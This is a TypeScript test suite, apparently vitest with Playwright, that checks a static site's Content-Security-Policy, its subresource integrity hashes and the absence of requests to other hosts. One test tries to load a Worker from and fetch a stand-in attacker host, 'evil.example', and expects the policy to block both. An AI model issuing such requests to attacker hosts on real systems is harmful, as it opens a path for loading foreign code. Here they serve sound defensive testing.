/**
 * What every page promises: it obeys its policy without a complaint, asks no other host, loads our
 * own scripts and styles by their checksums, and sends nobody out with a trace of where they were.
 */

import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { sitePath } from "./build-site.ts";
import { launchChromium } from "./chromium.ts";
import { FIND_FOREIGN } from "./foreign.ts";
import { type StaticServer, serveFolder } from "./static-server.ts";

const TABS = 3;

let browser: Browser;
let server: StaticServer;

beforeAll(async () => {
  [browser, server] = await Promise.all([launchChromium(), serveFolder(sitePath("own"))]);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Site paths of all pages of the built site that are no redirects. */
function allPages(): string[] {
  return readdirSync(sitePath("own"), { recursive: true, encoding: "utf8" })
    .filter((path) => path.endsWith(".html"))
    .filter((path) => !isRedirect(read(path)))
    .map((path) => `/${path.replace(/(^|\/)index\.html$/, "$1")}`)
    .sort();
}

function read(path: string): string {
  return readFileSync(join(sitePath("own"), path), "utf8");
}

function isRedirect(html: string): boolean {
  return /<meta http-equiv="refresh"/.test(html);
}

/** Opens pages; returns every complaint of the browser and request to elsewhere. */
async function visit(
  paths: readonly string[],
  headers: Record<string, string> = {},
): Promise<string[]> {
  const context = await browser.newContext({ serviceWorkers: "block" });
  await context.addInitScript(`
    addEventListener("securitypolicyviolation", (event) =>
      console.error("policy: " + event.effectiveDirective + " " + event.blockedURI));`);
  if (Object.keys(headers).length > 0) await addHeaders(context, headers);
  const problems: string[] = [];
  const queue = [...paths];
  const work = async () => {
    const page = await context.newPage();
    let path = "";
    page.on("console", (message) => {
      if (/policy|trusted|integrity|refused/i.test(message.text()))
        problems.push(`${path}: ${message.text().slice(0, 200)}`);
    });
    page.on("pageerror", (error) => problems.push(`${path}: ${error}`));
    page.on("request", (request) => {
      const url = new URL(request.url());
      const ours = url.origin === new URL(server.url).origin || url.protocol === "data:";
      if (!ours) problems.push(`${path}: asked for ${url.href}`);
    });
    for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
      path = next;
      await page.goto(server.url + path, { waitUntil: "load" });
      const foreign = await page.evaluate<string[]>(FIND_FOREIGN);
      problems.push(...foreign.map((what) => `${path}: ${what}`));
    }
    await page.close();
  };
  await Promise.all(Array.from({ length: TABS }, work));
  await context.close();
  return problems;
}

async function addHeaders(context: BrowserContext, headers: Record<string, string>) {
  await context.route(
    (url) => url.pathname.endsWith("/") || url.pathname.endsWith(".html"),
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), ...headers } });
    },
  );
}

describe("every page of the site", () => {
  test("is held to a policy without inline script or style", () => {
    const loose = allPages().filter((path) => {
      const html = read(path.endsWith("/") ? `${path}index.html` : path);
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
      if (policy === undefined) return true;
      const wasm = path === "/search/";
      return (
        /unsafe-inline|unsafe-eval&#39;(?!;)|\*|https?:/.test(
          policy.replace("wasm-unsafe-eval", ""),
        ) ||
        policy.includes("wasm-unsafe-eval") !== wasm ||
        !policy.includes("require-trusted-types-for &#39;script&#39;")
      );
    });
    expect(loose).toEqual([]);
  });

  test("loads its scripts and styles by their checksums", () => {
    const unchecked = allPages().flatMap((path) => {
      const html = read(path.endsWith("/") ? `${path}index.html` : path);
      const elements = html.match(
        /<script\b[^>]*\bsrc=[^>]*>|<link\b[^>]*rel="(stylesheet|modulepreload)"[^>]*>/g,
      );
      return (elements ?? []).filter((element) => !/ integrity="sha384-[\w+/=]{64}"/.test(element));
    });
    expect(unchecked).toEqual([]);
  });

  test("opens without a complaint of the browser or a request to another host", async () => {
    const pages = allPages();
    expect(pages.length).toBeGreaterThan(100);
    // Of the pages that differ in nothing but a name, every fifth is opened.
    const alike = /^\/(tags|people|organisations|products|media|glossary)\/[^/]+\/$/;
    const opened = pages.filter((path, i) => !alike.test(path) || i % 5 === 0);
    expect(await visit(opened)).toEqual([]);
  }, 300_000);

  test("obeys the header of the _headers file as well", async () => {
    const policy = /Content-Security-Policy: (.*)/.exec(read("_headers"))?.[1] ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    const pages = ["/", "/search/?q=%E6%B1%89%E5%AD%97", "/transcripts/", "/browse/"];
    expect(await visit(pages, { "content-security-policy": policy })).toEqual([]);
  }, 120_000);
});

describe("the policy", () => {
  test("stops what it is there to stop", async () => {
    const page = await browser.newPage();
    await page.goto(`${server.url}/`);
    const tried = await page.evaluate<Record<string, string>>(`(async () => {
      const tried = {};
      const attempt = (name, act) => {
        try { act(); tried[name] = "allowed"; } catch (error) { tried[name] = error.name; }
      };
      attempt("innerHTML", () => { document.createElement("p").innerHTML = "<b>x</b>"; });
      attempt("worker elsewhere", () => { new Worker("https://evil.example/w.js"); });
      const script = document.createElement("script");
      // Some browsers refuse the text, others the element that holds it.
      try { script.append("window.ran = true"); document.head.append(script); } catch {}
      tried.inline = window.ran ? "ran" : "did not run";
      tried.fetch = await fetch("https://evil.example/").then(() => "answered", (e) => e.name);
      return tried;
    })()`);
    expect(tried).toEqual({
      innerHTML: "TypeError",
      "worker elsewhere": "TypeError",
      inline: "did not run",
      fetch: "TypeError",
    });
    await page.close();
  });
});
